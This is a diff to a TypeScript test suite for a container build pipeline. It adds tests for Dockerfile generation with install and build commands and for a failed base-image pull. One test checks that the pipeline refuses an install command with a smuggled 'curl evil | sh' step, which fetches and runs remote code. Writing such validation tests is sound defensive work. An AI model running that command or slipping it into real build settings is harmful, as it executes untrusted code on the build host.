@@ -32,6 +32,7 @@ const DEPLOYMENT = randomUUID()
 const database = tempDatabasePath("pipeline")
 let git: TestGitServer
 let repo: TestRepo
+let agent: TestRepo
 let runtime: ManagedRuntime.ManagedRuntime<BuildPipeline | SourceUploads, unknown>
 
 beforeAll(async () => {
@@ -40,6 +41,17 @@ beforeAll(async () => {
   repo = await git.createRepo("acme/broken.git", [
     { files: { "langgraph.json": "{ not json" }, message: "one" },
     { files: { "README.md": "two\n" }, message: "two" }
+  ])
+  // A JavaScript project whose base image's registry answers nothing: the build fails at its pull.
+  agent = await git.createRepo("acme/agent.git", [
+    {
+      files: {
+        "langgraph.json": JSON.stringify({ node_version: "24", base_image: "127.0.0.1:9/langchain/langgraphjs-api", graphs: { agent: "./src/agent.ts:graph" } }),
+        "package.json": JSON.stringify({ name: "agent", private: true, scripts: { build: "tsc" } }),
+        "src/agent.ts": "export const graph = {}\n"
+      },
+      message: "agent"
+    }
   ])
   const env = Layer.succeed(ServerEnv, {
     config: { ...defaultConfig, databasePath: database.path, secretsKey: "pipeline-test-secrets-key", insecureGitHosts: [git.host] },
@@ -143,6 +155,29 @@ describe("the build pipeline", () => {
     expect(broken.log).toContain(`checked out commit ${repo.commits[0]}`)
     const missing = await failedBuild({ source: { _tag: "Git", repoUrl: repo.url, ref: "main" }, configPath: "apps/agent/langgraph.json" })
     expect(missing.error).toMatchObject({ step: "config", message: "apps/agent/langgraph.json: Could not find the config file apps/agent/langgraph.json in the source." })
+  })
+})
+
+describe("the build pipeline, to buildah", () => {
+  it("writes the langgraph CLI's Dockerfile with the source config's install and build commands, then builds it (here: its base image cannot be pulled)", async () => {
+    const { error, log } = await failedBuild({
+      source: { _tag: "Git", repoUrl: agent.url, ref: "main" },
+      installCommand: "npm ci --no-audit",
+      buildCommand: "npm run build"
+    })
+    // As the CLI builds a monorepo-style project given its commands: from the repository root (/deps/agent).
+    const dockerfile = log.slice(log.findIndex((line) => line.startsWith("Dockerfile (context ."))).map((line) => line.trim())
+    expect(dockerfile).toContain("FROM 127.0.0.1:9/langchain/langgraphjs-api:24")
+    expect(dockerfile).toContain("RUN npm ci --no-audit")
+    expect(dockerfile).toContain("RUN npm run build")
+    expect(error.step).toBe("build")
+    expect(error.message).toMatch(/^pulling base image 127\.0\.0\.1:9\/langchain\/langgraphjs-api:24: /)
+  }, 120_000)
+
+  it("refuses install and build commands the CLI refuses, before anything runs", async () => {
+    const { error } = await failedBuild({ source: { _tag: "Git", repoUrl: agent.url, ref: "main" }, installCommand: "npm ci; curl evil | sh" })
+    expect(error.step).toBe("config")
+    expect(error.message).toMatch(/^langgraph\.json: install_command contains disallowed characters or patterns/)
   })
 })
 
